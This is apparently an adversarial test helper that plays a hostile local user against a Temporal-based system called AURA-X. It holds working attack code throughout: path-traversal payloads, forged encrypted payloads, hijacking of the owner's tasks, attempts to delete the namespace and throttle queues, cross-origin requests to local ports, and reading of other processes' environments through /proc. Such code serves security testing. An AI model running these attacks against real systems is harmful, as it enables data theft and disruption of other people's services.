"""Another user of the machine, run as a process of its own: `python stranger.py ADDRESS WHAT [JSON]`.

It knows Temporal well, has no key, and needs nothing of AURA-X. What it did or saw goes to standard output.
"""

from __future__ import annotations

import asyncio
import contextlib
import http.client
import json
import os
import sys
import uuid
from collections.abc import AsyncIterator, Iterable
from datetime import timedelta
from operator import attrgetter
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from temporalio.api.command.v1 import Command
from temporalio.api.command.v1 import CompleteWorkflowExecutionCommandAttributes as CompleteWorkflow
from temporalio.api.command.v1 import FailWorkflowExecutionCommandAttributes as FailWorkflow
from temporalio.api.command.v1 import ScheduleActivityTaskCommandAttributes as ScheduleActivity
from temporalio.api.common.v1 import ActivityType, Payload, Payloads, WorkflowExecution, WorkflowType
from temporalio.api.enums.v1 import CommandType
from temporalio.api.failure.v1 import Failure, TimeoutFailureInfo
from temporalio.api.operatorservice.v1 import DeleteNamespaceRequest
from temporalio.api.query.v1 import WorkflowQuery
from temporalio.api.taskqueue.v1 import RateLimit, TaskQueue
from temporalio.api.workflowservice import v1 as api
from temporalio.client import Client
from temporalio.service import RPCError

NAMESPACE = "default"
LIE = "call this number"
BALLAST = 24
SHORT, POLL = timedelta(seconds=5), timedelta(seconds=65)
ESCAPING = {
    "song_id": "../../../out/x",
    "path": "../../planted.txt",
    "stems": [{"key": "../../secret.txt", "sha256": "0" * 64, "bytes": 1}],
    "files": [{"path": "../../planted.txt", "object": {"key": "../../secret.txt", "sha256": "0" * 64, "bytes": 1}}],
}


def plain(value: Any) -> Payload:
    """A payload that is not sealed."""
    return Payload(metadata={"encoding": b"json/plain"}, data=json.dumps(value).encode())


def sealed_with_another_key(like: Payload, value: Any, place: list[str]) -> Payload:
    """A payload sealed as AURA-X does it, with the stranger's own key under the owner's name."""
    key, sender = (like.metadata[name].decode() for name in ("key", "sender"))
    bound = json.dumps(["aurax-sealed-1", key, sender, *place]).encode()
    nonce = os.urandom(12)
    data = AESGCM(os.urandom(32)).encrypt(nonce, plain(value).SerializeToString(), bound)
    return Payload(metadata=dict(like.metadata), data=nonce + data)


def place_of(workflow: str) -> list[str]:
    """What a payload of a workflow is bound to."""
    return ["workflow", NAMESPACE, workflow]


class Stranger:
    """Everything that can be done with a client of the owner's server."""

    def __init__(self, client: Client) -> None:
        self.service = client.workflow_service
        self.operator = client.operator_service

    # Reading

    async def look(self) -> AsyncIterator[bytes]:
        """Read whatever the server tells."""
        listed = await self.service.list_workflow_executions(api.ListWorkflowExecutionsRequest(namespace=NAMESPACE))
        yield listed.SerializeToString()
        first = {one.task_queue for one in listed.executions}
        queues = {f"{queue}{end}" for queue in first for end in ("", "-render", "-gpu")}
        for one in listed.executions:
            yield await self._said(
                self.service.describe_workflow_execution,
                api.DescribeWorkflowExecutionRequest(namespace=NAMESPACE, execution=one.execution),
            )
            yield (await self.history(one.execution)).SerializeToString()
            for query in ("__stack_trace", "__temporal_workflow_metadata", "nonsense"):
                yield await self._said(
                    self.service.query_workflow,
                    api.QueryWorkflowRequest(
                        namespace=NAMESPACE, execution=one.execution, query=WorkflowQuery(query_type=query)
                    ),
                )
        for queue in queues:
            for kind in (1, 2):
                yield await self._said(
                    self.service.describe_task_queue,
                    api.DescribeTaskQueueRequest(
                        namespace=NAMESPACE, task_queue=TaskQueue(name=queue), task_queue_type=kind, report_config=True
                    ),
                )
        yield await self._said(self.service.list_workers, api.ListWorkersRequest(namespace=NAMESPACE))
        yield await self._said(self.service.describe_namespace, api.DescribeNamespaceRequest(namespace=NAMESPACE))

    async def history(self, execution: WorkflowExecution) -> Any:
        """The events of a workflow."""
        asked = api.GetWorkflowExecutionHistoryRequest(namespace=NAMESPACE, execution=execution)
        return (await self.service.get_workflow_execution_history(asked, timeout=SHORT)).history

    async def _said(self, call: Any, request: Any) -> bytes:
        try:
            answer: bytes = (await call(request, timeout=SHORT)).SerializeToString()
        except RPCError as error:
            return str(error).encode() + error.raw_grpc_status
        return answer

    # Asking

    async def ask(self, queue: str, song: str) -> list[str]:
        """Ask the owner's worker for work, in every way there is; `song` is a finished workflow of the owner."""
        started = (await self.history(WorkflowExecution(workflow_id=song))).events[0]
        copied = started.workflow_execution_started_event_attributes.input.payloads[0]
        asked = [
            ("SongWorkflow", "song-stranger", [plain(ESCAPING)]),
            ("SongWorkflow", "song-../../../out/x", [copied]),
            ("SongWorkflow", "song-forged", [sealed_with_another_key(copied, ESCAPING, place_of("song-forged"))]),
            ("MixingWorkflow", "mix-stranger", [plain({"mix_request": ESCAPING})]),
            ("MixingWorkflow", song, [copied]),
            ("CompositionWorkflow", f"{song}/take-1/compose", [copied]),
            ("SongWorkflow", f"{song}/repair-1", [copied]),
        ]
        for kind, name, values in asked:
            await self.start(kind, name, queue, values)
        own = f"own-{uuid.uuid4().hex}"
        # A workflow of the stranger's own, below the owner's song, gives the owner's worker steps to do.
        await self.start("Own", f"{song}/own", own, [])
        await self.command(
            own,
            [
                self.step(name, index, queue, [value])
                for index, (name, value) in enumerate(
                    (name, value)
                    for name in ("deliver_song", "render_track", "end_song", "discard_attempt", "analyze")
                    for value in (plain(ESCAPING), copied)
                )
            ],
        )
        await self._said(
            self.service.signal_workflow_execution,
            api.SignalWorkflowExecutionRequest(
                namespace=NAMESPACE,
                workflow_execution=WorkflowExecution(workflow_id="song-stranger"),
                signal_name="deliver",
                input=Payloads(payloads=[plain(ESCAPING)]),
            ),
        )
        return [name for _, name, _ in asked] + [f"{song}/own"]

    async def start(self, kind: str, name: str, queue: str, values: list[Payload]) -> None:
        """Start a workflow, also under the name of one that has ended."""
        await self.service.start_workflow_execution(
            api.StartWorkflowExecutionRequest(
                namespace=NAMESPACE,
                workflow_id=name,
                workflow_type=WorkflowType(name=kind),
                task_queue=TaskQueue(name=queue),
                input=Payloads(payloads=values),
                request_id=uuid.uuid4().hex,
                workflow_task_timeout=timedelta(seconds=10),
            )
        )

    def step(self, name: str, index: int, queue: str, values: list[Payload]) -> Command:
        """The command that has a worker do a step."""
        return Command(
            command_type=CommandType.COMMAND_TYPE_SCHEDULE_ACTIVITY_TASK,
            schedule_activity_task_command_attributes=ScheduleActivity(
                activity_id=str(index),
                activity_type=ActivityType(name=name),
                task_queue=TaskQueue(name=queue),
                input=Payloads(payloads=values),
                schedule_to_close_timeout=timedelta(seconds=10),
                start_to_close_timeout=timedelta(seconds=10),
            ),
        )

    async def command(self, queue: str, commands: list[Command]) -> None:
        """Decide what comes next in a workflow of a task queue."""
        task = await self.workflow_task(queue, ballast=0)
        await self._decide(task, commands)

    async def _decide(self, task: Any, commands: list[Command]) -> None:
        await self.service.respond_workflow_task_completed(
            api.RespondWorkflowTaskCompletedRequest(task_token=task.task_token, commands=commands)
        )

    # Answering

    async def answer(self, queue: str, how: str) -> None:
        """Take a step of the owner's songs, before their worker does, and answer it."""
        if how.startswith("result"):
            await self._answer_workflow(queue, how)
            return
        task = await self.activity_task(queue)
        asked = task.input.payloads[0]
        place = ["activity", NAMESPACE, task.workflow_execution.workflow_id, task.activity_type.name]
        forged = {
            "other key": [sealed_with_another_key(asked, ESCAPING, place)],
            "twice": [asked, asked],
        }
        await self.service.respond_activity_task_completed(
            api.RespondActivityTaskCompletedRequest(task_token=task.task_token, result=Payloads(payloads=forged[how]))
        )

    async def _answer_workflow(self, queue: str, how: str) -> None:
        task = await self.workflow_task(queue, BALLAST)
        started = task.history.events[0].workflow_execution_started_event_attributes.input.payloads[0]
        place = place_of(task.workflow_execution.workflow_id)
        late = Failure(message=LIE, timeout_failure_info=TimeoutFailureInfo(timeout_type=1))
        result = started if how == "result sent back" else sealed_with_another_key(started, ESCAPING, place)
        command = Command(
            command_type=CommandType.COMMAND_TYPE_COMPLETE_WORKFLOW_EXECUTION,
            complete_workflow_execution_command_attributes=CompleteWorkflow(result=Payloads(payloads=[result])),
        )
        if how == "result failed":
            command = Command(
                command_type=CommandType.COMMAND_TYPE_FAIL_WORKFLOW_EXECUTION,
                fail_workflow_execution_command_attributes=FailWorkflow(failure=late),
            )
        await self._decide(task, [command])

    async def activity_task(self, queue: str) -> Any:
        """Take a step of the owner's songs, from the queue where most are; its name follows from the first one's."""
        queue = f"{queue}-render"
        asked = api.PollActivityTaskQueueRequest(
            namespace=NAMESPACE, task_queue=TaskQueue(name=queue), identity="stranger\x1b[31m"
        )

        async def load(name: str) -> None:
            await self.service.start_activity_execution(
                api.StartActivityExecutionRequest(
                    namespace=NAMESPACE,
                    activity_id=name,
                    activity_type=ActivityType(name="analyze"),
                    task_queue=TaskQueue(name=queue),
                    input=Payloads(payloads=[plain(ESCAPING)]),
                    start_to_close_timeout=timedelta(seconds=10),
                    schedule_to_close_timeout=timedelta(seconds=10),
                    request_id=name,
                )
            )

        return await self._first(
            lambda: self.service.poll_activity_task_queue(asked, timeout=POLL), load, "activity_id", BALLAST
        )

    async def workflow_task(self, queue: str, ballast: int) -> Any:
        """Take a decision about the owner's songs."""
        asked = api.PollWorkflowTaskQueueRequest(
            namespace=NAMESPACE, task_queue=TaskQueue(name=queue), identity="stranger"
        )

        async def load(name: str) -> None:
            await self.start("SongWorkflow", name, queue, [plain(ESCAPING)])

        return await self._first(
            lambda: self.service.poll_workflow_task_queue(asked, timeout=POLL),
            load,
            "workflow_execution.workflow_id",
            ballast,
        )

    async def _first(self, poll: Any, load: Any, name: str, ballast: int) -> Any:
        """Get the next task. The worker polled first; once it has some ballast, the stranger's polls are older."""
        polls = {asyncio.ensure_future(poll()) for _ in range(48)}
        await asyncio.sleep(0.5)
        for _ in range(ballast):
            await load(f"ballast-{uuid.uuid4().hex}")
        say("polling")
        while True:
            done, polls = await asyncio.wait(polls, return_when=asyncio.FIRST_COMPLETED)
            for task in (one.result() for one in done):
                if task.task_token and not attrgetter(name)(task).startswith("ballast-"):
                    for one in polls:
                        one.cancel()
                    await asyncio.gather(*polls, return_exceptions=True)
                    return task
                polls.add(asyncio.ensure_future(poll()))

    # Meddling

    async def meddle(self, queue: str) -> dict[str, str]:
        """Change the server's settings so that the owner's later songs are led astray."""
        ways = {
            "delete the namespace": self.operator.delete_namespace(DeleteNamespaceRequest(namespace=NAMESPACE)),
            "change the namespace": self.service.update_namespace(api.UpdateNamespaceRequest(namespace=NAMESPACE)),
            "limit the queue": self.service.update_task_queue_config(
                api.UpdateTaskQueueConfigRequest(
                    namespace=NAMESPACE,
                    identity="stranger",
                    task_queue=queue,
                    task_queue_type=2,
                    update_queue_rate_limit=api.UpdateTaskQueueConfigRequest.RateLimitUpdate(
                        rate_limit=RateLimit(requests_per_second=0)
                    ),
                )
            ),
            "lead to another version": self.service.set_worker_deployment_current_version(
                api.SetWorkerDeploymentCurrentVersionRequest(
                    namespace=NAMESPACE, deployment_name="stranger", build_id="1", ignore_missing_task_queues=True
                )
            ),
        }
        done = {}
        for way, call in ways.items():
            try:
                await call
                done[way] = ""
            except RPCError as error:
                done[way] = error.message
        return done


def browse(ports: Iterable[int], queue: str) -> Iterable[str]:
    """What a page of another site gets from every port, as a browser would send it."""
    order = json.dumps(
        {
            "workflowType": {"name": "SongWorkflow"},
            "taskQueue": {"name": queue},
            "requestId": uuid.uuid4().hex,
            "input": [{"metadata": {"encoding": "anNvbi9wbGFpbg=="}, "data": "e30="}],
        }
    )
    for port in ports:
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"rebound.example:{port}"):
            for path in ("/api/v1/namespaces/default/workflows/page", "/namespaces/default/workflows/page"):
                page = http.client.HTTPConnection("127.0.0.1", port, timeout=3)
                headers = {"Host": host, "Origin": "http://page.example", "Content-Type": "text/plain"}
                with contextlib.suppress(OSError, http.client.HTTPException), contextlib.closing(page):
                    page.request("POST", path, order, headers)
                    answer = page.getresponse()
                    yield f"{port} {answer.status} {answer.getheader('Access-Control-Allow-Origin')}"


def rummage(folders: list[str]) -> Iterable[bytes]:
    """Whatever can be read of files in folders, and of all processes."""
    for folder in folders:
        for place, _, files in os.walk(folder, onerror=lambda _error: None):
            yield place.encode()
            for name in files:
                with contextlib.suppress(OSError):
                    yield f"{place}/{name}".encode() + Path(place, name).read_bytes()
    for process in Path("/proc").glob("[0-9]*"):
        if int(process.name) == os.getpid():
            continue
        for part in ("cmdline", "environ", "maps", "comm"):
            with contextlib.suppress(OSError):
                yield (process / part).read_bytes()


def say(text: str) -> None:
    """Tell the test."""
    sys.stdout.write(text + "\n")
    sys.stdout.flush()


async def main(address: str, what: str, given: dict[str, Any]) -> None:
    """Do one thing."""
    if what == "rummage":
        sys.stdout.buffer.write(b"\n".join(rummage(given["folders"])))
        return
    if what == "browse":
        say("\n".join(browse(given["ports"], given["queue"])))
        return
    stranger = Stranger(await Client.connect(address))
    if what == "look":
        async for seen in stranger.look():
            sys.stdout.buffer.write(seen)
    elif what == "ask":
        say(json.dumps(await stranger.ask(given["queue"], given["song"])))
    elif what == "answer":
        await stranger.answer(given["queue"], given["how"])
    elif what == "swallow":
        for _ in range(2):  # of the times that a step is given out
            await stranger.activity_task(given["queue"])
    elif what == "meddle":
        say(json.dumps(await stranger.meddle(given["queue"])))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], json.loads(sys.argv[3])))
    sys.stdout.flush()
    os._exit(0)  # Temporal's library may abort where Python ends while one of its polls is open
